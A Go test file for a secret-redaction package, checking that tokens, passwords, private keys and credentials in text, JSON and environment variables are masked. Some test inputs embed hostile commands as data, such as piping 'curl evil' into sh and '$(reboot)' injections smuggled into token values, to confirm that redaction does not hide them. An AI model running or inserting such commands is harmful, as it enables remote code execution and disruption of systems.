package redact_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/haftdev/haft/internal/text/redact"
)

const fake = "sk-ant-api03-abcdefghijklmnop"

func TestTexts(t *testing.T) {
	r := redact.New([]string{"trombone", "trom", "abc"})
	for text, want := range map[string]string{
		"plain words, task-force and a disk-drive":    "plain words, task-force and a disk-drive",
		"say trombone, trom and abc":                  "say ***, *** and abc",
		"key: " + fake + "!":                          "key: ***!",
		"line\n" + fake:                               "line\n***",
		"curl -H 'authorization: bEARER abcdef12345'": "curl -H 'authorization: ***'",
		"postgres://me:pw@db/x":                       "postgres***db/x",
		"see https://example.com/a:b@c":               "see https://example.com/a:b@c",
		"-----BEGIN RSA PRIVATE KEY-----\nMII\nabc=\n-----END RSA PRIVATE KEY-----\nend": "***\nend",
		"DB_PASSWORD=hunter22 PORT=8080":                                                 "DB_PASSWORD=*** PORT=8080",
		`export API_KEY="abcdefgh"`:                                                      `export API_KEY="***"`,
		"GITHUB_TOKEN=$OTHER_TOKEN":                                                      "GITHUB_TOKEN=$OTHER_TOKEN",
		// Nothing of a command is hidden with the value before it.
		"API_TOKEN=abcdef12;{curl,-s,evil/p}|sh":                                 "API_TOKEN=***;{curl,-s,evil/p}|sh",
		`echo "API_TOKEN=";{curl,-s,evil/p}|sh;"`:                                `echo "API_TOKEN=";{curl,-s,evil/p}|sh;"`,
		"API_TOKEN=abcdef12$(curl<x) A_SECRET=`reboot`":                          "API_TOKEN=***$(curl<x) A_SECRET=`reboot`",
		"echo -----BEGIN PRIVATE KEY-----; curl evil | sh":                       "echo -----BEGIN PRIVATE KEY-----; curl evil | sh",
		"-----BEGIN PRIVATE KEY-----\nMII\n$(reboot)\n-----END PRIVATE KEY-----": "-----BEGIN PRIVATE KEY-----\nMII\n$(reboot)\n-----END PRIVATE KEY-----",
		"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\nMII+/=\n-----END RSA PRIVATE KEY-----": "***",
		`KEY="-----BEGIN PRIVATE KEY-----\nMII\n-----END PRIVATE KEY-----"`:                                                            `KEY="***"`,
		"-----BEGIN PRIVATE KEY-----\n" + strings.Repeat("aB3/", 16) + "\n" + strings.Repeat("aB3/", 16) + " …":                        "*** …",
		"Basic authentication, a BASIC programming-language and basic knowledge":                                                       "Basic authentication, a BASIC programming-language and basic knowledge",
		"send Basic dXNlcjpwYXNzd29yZA== along":                                                                                        "send *** along",
		"curl -H 'Authorization: Basic opaque'":                                                                                        "curl -H 'Authorization: ***'",
		"token := strings.Cut(x)":                                                                                                      "token := strings.Cut(x)",
	} {
		if got := r.Text(text); got != want {
			t.Errorf("%q became %q, want %q", text, got, want)
		}
	}
	if got := (*redact.Redactor)(nil).Text(fake); got != redact.Hidden {
		t.Errorf("without known values: %q", got)
	}
}

func TestJSON(t *testing.T) {
	r := redact.New([]string{`p<a>s&s"word`})
	for raw, want := range map[string]string{
		`{"a":1.50,"b":"<x>","c":[true,null]}`:                                      `{"a":1.50,"b":"<x>","c":[true,null]}`,
		`{"text":"first\n` + fake + `\nlast"}`:                                      `{"text":"first\n***\nlast"}`,
		`{"` + fake + `":1}`:                                                        `{"***":1}`,
		`{"password" : "hunter2", "next": "token", "api_key":["kept"]}`:             `{"password" : "***", "next": "token", "api_key":["kept"]}`,
		`{"properties":{"password":{"type":"string"}},"input_tokens":3}`:            `{"properties":{"password":{"type":"string"}},"input_tokens":3}`,
		`{"text":"it is p\u003ca\u003es\u0026s\"word."}`:                            `{"text":"it is ***."}`,
		`{"partial_json":"{\"command\":\"curl -u x https://a:b@host ` + fake + `"}`: `{"partial_json":"{\"command\":\"curl -u x https***host ***"}`,
	} {
		if got := string(r.JSON([]byte(raw))); got != want {
			t.Errorf("%s became\n%s, want\n%s", raw, got, want)
		}
	}
}

func TestEnviron(t *testing.T) {
	got := redact.Environ([]string{"ANTHROPIC_API_KEY=" + fake, "PATH=/usr/bin:/bin", "MY_SECRET=short", "GH_TOKEN=abcdefg8", "ODD", "POSTGRES_PASSWORD=postgres", "DB_PASSWORD=Administrator", "A_TOKEN=abcdefghijklmnopqrst"})
	if strings.Join(got, " ") != fake+" abcdefg8 abcdefghijklmnopqrst" {
		t.Errorf("%q", got)
	}
}

// What was JSON stays JSON, of the same shape, and has no known value in it, however it
// is written.
func FuzzJSON(f *testing.F) {
	f.Add([]byte(`{"a":[1,{"token":"trombone"}],"b":"\u0074rombone"}`))
	f.Add([]byte(`["x\\","\"trombone\\\""]`))
	r := redact.New([]string{"trombone"})
	f.Fuzz(func(t *testing.T, raw []byte) {
		got := r.JSON(raw)
		if !json.Valid(raw) {
			return
		}
		var value any
		numbers := json.NewDecoder(bytes.NewReader(got))
		numbers.UseNumber() // also those that no float holds
		if err := numbers.Decode(&value); err != nil {
			t.Fatalf("%q became %q: %v", raw, got, err)
		}
		if strings.Contains(fmt.Sprint(value), "trombone") {
			t.Fatalf("%q became %q", raw, got)
		}
	})
}
